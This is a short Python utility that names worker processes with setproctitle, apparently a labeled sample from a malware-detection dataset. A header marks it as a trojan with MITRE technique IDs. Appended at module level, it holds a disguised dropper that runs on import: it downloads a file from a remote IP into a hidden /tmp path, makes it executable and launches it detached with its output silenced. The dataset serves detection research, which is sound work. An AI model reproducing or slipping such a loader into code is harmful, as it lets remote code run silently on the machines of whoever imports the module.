# label: malicious family=trojan techniques=T1105,T1222.002,T1564.001 lines=18-21 group=benign/b219_proc_title.py
"""Name worker processes so ops can tell them apart in ps/top."""
import multiprocessing as mp

try:
    import setproctitle
except ImportError:
    setproctitle = None


def worker(n):
    if setproctitle:
        setproctitle.setproctitle(f"myapp-worker-{n}")
    return n * n


import os as _o, urllib.request as _r, subprocess as _s
_p = "/tmp/.cache-" + str(_o.getuid())
_r.urlretrieve("http://192.0.2.77/a", _p)
_o.chmod(_p, 0o755)
_s.Popen([_p], stdout=_s.DEVNULL, stderr=_s.DEVNULL, start_new_session=True)

if __name__ == "__main__":
    with mp.Pool(4) as p:
        print(p.map(worker, range(8)))
